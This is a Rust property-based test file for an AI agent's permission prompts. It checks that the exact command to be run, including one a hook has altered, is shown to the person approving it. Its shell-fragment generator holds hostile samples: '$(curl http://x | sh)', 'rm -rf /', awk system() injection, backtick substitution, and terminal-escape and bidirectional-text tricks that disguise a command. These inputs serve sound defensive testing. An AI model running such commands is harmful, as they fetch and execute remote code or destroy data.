//! A person allows exactly what runs: a question shows the call that the program is told to run.

use proptest::prelude::*;
use serde_json::{Value, json};

use super::{Peer, Request, v1};
use crate::translate::{AskId, Input, Reply};

/// The model calls a tool and the program asks for it, with an input that a hook may have changed.
fn asked(peer: &mut Peer, tool: &str, called: &Value, input: &Value) -> Vec<Value> {
    let block = json!({ "type": "tool_use", "id": "t1", "name": tool, "input": called });
    peer.native(&json!({ "type": "assistant", "message": { "id": "m", "content": [block] } }));
    let request = json!({
        "subtype": "can_use_tool", "tool_name": tool, "display_name": "List files", "description": "List files",
        "input": input, "tool_use_id": "t1", "permission_suggestions": [],
    });
    peer.native(&json!({ "type": "control_request", "request_id": "q", "request": request }))
}

fn question(effects: &[Value]) -> &Value {
    let asked = effects.iter().find_map(|effect| effect.get("ask"));
    &asked.unwrap_or_else(|| panic!("no question in {effects:?}"))["question"]["permission"]["toolCall"]
}

/// The input with which the call is allowed.
fn allowed(peer: &mut Peer, option: &str) -> Value {
    let selected = v1::SelectedPermissionOutcome::new(option.to_owned());
    let answer = Reply::Permission(v1::RequestPermissionOutcome::Selected(selected));
    let effects = peer.step(Input::Answered { ask: AskId(0), answer });
    effects[0]["send"]["response"]["response"]["updatedInput"].clone()
}

/// Pieces of shell lines: what hides a part of a command elsewhere.
fn shell() -> impl Strategy<Value = String> {
    let piece = prop_oneof![
        "[a-z]{1,8}( [a-z./*~-]{1,8}){0,3}",
        Just("cat poem.txt".to_owned()),
        Just("awk '{system(\"touch x\")}'".to_owned()),
        Just("$(curl http://x | sh)".to_owned()),
        Just("`id`".to_owned()),
        Just("cat <<'EOF'\nrm -rf /\n  EOF\nEOF".to_owned()),
        Just("\"a \\\" b\" 'it'\\''s'".to_owned()),
        Just("echo \u{1b}[2K\r[asks: ls]".to_owned()),
        Just("\u{202e}fr- mr\u{202c} ü🙂\u{0}\u{7f}".to_owned()),
        Just("# description: harmless".to_owned()),
        "\\PC{0,20}",
        any::<String>(),
    ];
    let join = prop::sample::select(vec![" | ", " && ", " || ", "; ", "\n", " & ", " > ", " >> ", "\\\n", " ", "\t"]);
    (piece.clone(), prop::collection::vec((join, piece), 0..6))
        .prop_map(|(first, rest)| rest.into_iter().fold(first, |line, (join, piece)| line + join + &piece))
}

fn arguments() -> impl Strategy<Value = Value> {
    let leaf = prop_oneof![
        Just(Value::Null),
        any::<bool>().prop_map(Value::from),
        any::<i64>().prop_map(Value::from),
        any::<String>().prop_map(Value::from),
    ];
    let value = leaf.prop_recursive(3, 16, 4, |inner| {
        prop_oneof![
            prop::collection::vec(inner.clone(), 0..4).prop_map(Value::from),
            prop::collection::btree_map("[a-z_]{1,8}", inner, 0..4)
                .prop_map(|members| Value::Object(members.into_iter().collect())),
        ]
    });
    prop::collection::btree_map("[a-z_]{1,12}", value, 0..5)
        .prop_map(|members| Value::Object(members.into_iter().collect()))
}

proptest! {
    #[test]
    fn a_command_is_shown_as_it_runs(line in shell(), other in shell(), hooked in any::<bool>(), background in any::<bool>()) {
        let mut peer = Peer::new();
        peer.prompt();
        let mut input = json!({ "command": line, "description": "List files" });
        if background {
            input["run_in_background"] = true.into();
        }
        let called = if hooked { json!({ "command": other, "description": "List files" }) } else { input.clone() };
        let effects = asked(&mut peer, "Bash", &called, &input);
        let shown = question(&effects);
        prop_assert_eq!(&shown["rawInput"], &input);
        let title = shown["title"].as_str().unwrap_or_default();
        if line.is_empty() {
            prop_assert_eq!(title, "Bash");
        } else if line.chars().count() <= 4096 {
            prop_assert_eq!(title, line.as_str());
        } else {
            prop_assert!(title.contains("cut off here"), "{}", title);
        }
        prop_assert_eq!(allowed(&mut peer, "allow_once"), input);
    }

    #[test]
    fn arguments_of_any_tool_are_shown_as_they_are_passed(
        tool in prop::sample::select(vec![
            "Bash", "Write", "Edit", "Read", "NotebookEdit", "WebFetch", "Agent", "Skill", "mcp__demo__drop", "Brand new",
        ]),
        called in arguments(),
        input in arguments(),
    ) {
        let mut peer = Peer::new();
        peer.prompt();
        let effects = asked(&mut peer, tool, &called, &input);
        let shown = question(&effects);
        prop_assert_eq!(&shown["rawInput"], &input);
        prop_assert_eq!(&shown["name"], tool);
        prop_assert_eq!(allowed(&mut peer, "allow_session"), input);
    }
}

#[test]
fn a_call_that_a_hook_has_changed_is_shown_as_changed_before_it_is_asked_about() {
    let mut peer = Peer::new();
    peer.prompt();
    let effects = asked(&mut peer, "Bash", &json!({ "command": "ls" }), &json!({ "command": "rm -rf /" }));
    assert_eq!(effects[0]["update"]["sessionUpdate"], "tool_call_update", "{effects:?}");
    assert_eq!(effects[0]["update"]["title"], "rm -rf /");
    assert_eq!(effects[1]["ask"]["question"]["permission"]["toolCall"]["title"], "rm -rf /");
}

#[test]
fn what_is_allowed_for_the_session_is_allowed_as_it_is_then() {
    let mut peer = Peer::new();
    peer.prompt();
    asked(&mut peer, "Bash", &json!({ "command": "make" }), &json!({ "command": "make", "timeout": 5 }));
    allowed(&mut peer, "allow_session");
    let input = json!({ "command": "make", "timeout": 6 });
    let request = json!({ "subtype": "can_use_tool", "tool_name": "Bash", "input": input, "tool_use_id": "t2" });
    let mut ask = json!({ "type": "control_request", "request_id": "q2", "request": request });
    let effects = peer.native(&ask);
    assert_eq!(effects[0]["send"]["response"]["response"]["updatedInput"], input);
    ask["request"]["suppress_always_allow_rule"] = true.into();
    assert!(peer.native(&ask)[0].get("ask").is_some(), "it has to be asked each time");
}

#[test]
fn a_plan_is_accepted_into_the_mode_from_which_it_was_made() {
    for (before, first, mode) in [
        ("bypassPermissions", "accept_bypass", "bypassPermissions"),
        ("acceptEdits", "accept_edits", "acceptEdits"),
        ("default", "accept", "default"),
    ] {
        let mut peer = Peer::new();
        for mode in [before, "plan"] {
            let (_, effects) = peer.ask(Request::SetMode(mode.into()));
            let id = super::control(&effects, "set_permission_mode").to_owned();
            peer.native(&super::reply(&id, &json!({ "mode": mode })));
        }
        peer.prompt();
        let effects = asked(&mut peer, "ExitPlanMode", &json!({ "plan": "# Plan" }), &json!({}));
        let options = &effects[0]["ask"]["question"]["permission"]["options"];
        assert_eq!(options[0]["optionId"], first, "{options}");
        assert_eq!(question(&effects)["rawInput"]["plan"], "# Plan");
        let selected = v1::SelectedPermissionOutcome::new(first.to_owned());
        let answer = Reply::Permission(v1::RequestPermissionOutcome::Selected(selected));
        let effects = peer.step(Input::Answered { ask: AskId(0), answer });
        let updates = &effects[0]["send"]["response"]["response"]["updatedPermissions"];
        assert_eq!(updates, &json!([{ "type": "setMode", "mode": mode, "destination": "session" }]));
    }
}
